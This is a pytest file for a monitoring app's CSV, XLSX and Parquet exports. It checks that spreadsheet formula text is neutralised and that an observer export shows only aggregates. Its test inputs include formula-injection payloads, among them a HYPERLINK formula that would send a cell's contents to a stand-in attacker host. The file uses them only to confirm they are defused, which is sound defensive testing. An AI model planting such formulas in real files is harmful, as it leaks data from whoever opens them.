"""Data exports: CSV, XLSX and Parquet read back equal; text that a spreadsheet would run as a
formula is neutralised in CSV and XLSX (and kept verbatim in Parquet); the observer export holds
aggregates only."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest

import metrics
from coalition import export

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]
TEXT_COLUMNS = ["partner", "platform", "period", "species_group", "country", "status"]


def rows(platform: str, count: int) -> list[tuple]:
    return [(platform, "2019-Q1", "elephants", "CHN", count, count + 1, 3, 100)]


@pytest.fixture(scope="module")
def plain(build_db):
    """Two ordinary records, one without a country, one count not reported."""
    db = build_db(
        [("shopco", "e-commerce", dt.date(2018, 1, 1), ["ShopMarket", "店铺"])],
        [
            dict(
                partner="shopco",
                uploaded_at=dt.datetime(2019, 4, 1),
                rows=[
                    ("ShopMarket", "2019-Q1", "elephants", "CHN", 10, None, 3, 100),
                    ("店铺", "2019-02", "pangolins", None, 0, 5, None, None),
                ],
            )
        ],
    )
    with db.read() as cur:
        yield cur


@pytest.fixture(scope="module")
def hostile(build_db):
    """A platform per formula-like name."""
    names = [f"p{i}" for i in range(len(INJECTIONS))]
    db = build_db(
        [("evilco", "other", dt.date(2018, 1, 1), INJECTIONS)],
        [
            dict(
                partner="evilco",
                uploaded_at=dt.datetime(2019, 4, 1),
                rows=[r for name in INJECTIONS for r in rows(name, 1)],
            )
        ],
    )
    assert names
    with db.read() as cur:
        yield cur


def read(data: bytes, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    if fmt == "xlsx":
        return pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False, engine="openpyxl")
    return pd.read_parquet(io.BytesIO(data))


def as_text(frame: pd.DataFrame) -> pd.DataFrame:
    """Every cell as the text a CSV holds: counts as whole numbers, blanks empty."""
    return frame.astype(object).where(frame.notna(), "").astype(str)


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_records_read_back_equal(plain, fmt):
    expected = export.current_records(plain)
    back = read(export.export_records(plain, fmt), fmt)
    assert list(back.columns) == list(export.EXPORT_COLUMNS)
    if fmt == "parquet":
        pd.testing.assert_frame_equal(back, expected, check_dtype=False)
    else:
        pd.testing.assert_frame_equal(as_text(back), as_text(expected))
    assert set(back["platform"]) == {"ShopMarket", "店铺"}


def test_neutralise_each_formula_start_and_nothing_else():
    for text in INJECTIONS:
        assert export.neutralise(text) == "'" + text
    for safe in ("ShopMarket", "a=b", " =1", "", "Global / unspecified"):
        assert export.neutralise(safe) == safe
    assert export.neutralise(-1) == -1 and export.neutralise(None) is None


def test_csv_neutralises_formula_text(hostile):
    back = read(export.export_records(hostile, "csv"), "csv")
    assert sorted(back["platform"]) == sorted("'" + text for text in INJECTIONS)
    for column in TEXT_COLUMNS:
        assert not back[column].str.match(r"^[=+\-@\t\r]").any(), column


def test_xlsx_holds_no_formula_and_the_same_text_as_csv(hostile):
    data = export.export_records(hostile, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    text = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in text if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    csv = read(export.export_records(hostile, "csv"), "csv")
    assert sorted(read(data, "xlsx")["platform"]) == sorted(csv["platform"])


def test_parquet_keeps_text_verbatim(hostile):
    back = read(export.export_records(hostile, "parquet"), "parquet")
    assert sorted(back["platform"]) == sorted(INJECTIONS)


def test_observer_export_is_aggregates_whatever_the_viewer(activity):
    # three partners, none consenting to be named: no cell is built from 3 or more of them
    table = export.observer_aggregates(activity, metrics.Filters(viewer=metrics.SECRETARIAT))
    assert list(table.columns) == list(export.OBSERVER_COLUMNS)
    assert "partner" not in table.columns and "platform" not in table.columns
    withheld = table[table["withheld"]]
    assert not withheld.empty
    assert withheld[["actions", "listings_detected"]].isna().all().all()
    for fmt in export.FORMATS:
        back = read(export.export_observer(activity, fmt), fmt)
        assert len(back) == len(table)
